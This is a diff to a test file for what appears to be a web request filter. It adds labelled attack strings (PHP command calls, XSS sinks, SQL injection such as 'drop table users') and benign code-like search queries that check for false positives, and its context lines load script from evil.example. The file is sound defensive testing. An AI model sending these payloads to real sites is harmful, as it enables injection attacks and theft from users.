@@ -114,6 +114,20 @@ const ATTACKS: ReadonlyArray<readonly [string, string]> = [
   ['xss-js-sink', "/p?x=$.getScript('//evil.example/x.js')"],
   ['xss-js-sink', "/p?x=navigator.serviceWorker.register('//evil.example/sw.js')"],
   ['xss-handler-attribute', "/p?x=write('\\74img/src/o\\156error\\75alert\\501\\51\\76')"], // octal escapes
+  // Calls, statements and quotes that still read as code once the prose lookalikes below are left alone.
+  ['php-spaced-call', '/get?foo=exec%09%28blah%29'], // a tab before the bracket
+  ['php-spaced-call', '/q?x=system%20%20(id)'],
+  ['php-function-call', "/q?x=system ('id')"],
+  ['php-dangerous-call', '/q?x=passthru (base64_decode($x))'],
+  ['xss-js-sink', '/q?x=alert (1)'],
+  ['xss-js-sink', '/q?x=<div style="width: expression (alert(1))">'],
+  ['xss-no-parentheses', '/q?x={throw onerror=eval,1}'],
+  ['sqli-stacked-query', "/item?id=1') select * from users--"],
+  ['sqli-stacked-query', "/item?id=1' drop table users"],
+  ['sqli-stacked-query', '/item?id=1; drop dead'], // after a semicolon any statement word
+  ['sqli-quote-terminator', "/item?id=1') having 1=1--"],
+  ['sqli-tautology', "/item?id=1') or not 1=2"],
+  ['generic-perl', '/q?x=system "id"'],
 ];
 
 const BENIGN: readonly string[] = [
@@ -137,6 +151,21 @@ const BENIGN: readonly string[] = [
   '/products?color=red&_=1733400000000',
   '/search?q=%E2%9C%93+checked',
   '/help/search?q=what+to+do+in+case+when+the+parcel+is+late+then',
+  // Prose with the words and brackets of code (the English set of the threat bench holds many more).
+  '/search?q=throw+pillows',
+  '/search?q=velvet+throw+blanket',
+  '/search?q=operating+system+(windows+11)',
+  '/search?q=eval+(board+game)',
+  '/search?q=fetch+(dog+toy)',
+  '/search?q=convert+(pdf)+to+word',
+  '/search?q=extract+(ore)+from+a+strip-mine',
+  '/search?q=shoes+(kids)+select+size',
+  '/search?q=%27drop+dead%27+gorgeous',
+  '/search?q=t-shirt+(blue)+or+not+at+all',
+  '/search?q=a+facial+expression+(as+a+smile)',
+  "/search?q=the+immune+system's+response",
+  '/search?q=(followed+by+%27of%27)+having+a+liking+for',
+  '/search?q=%22silence+is+better+than+unmeaning+words%22--Pythagoras',
 ];
 
 describe('rule families', () => {
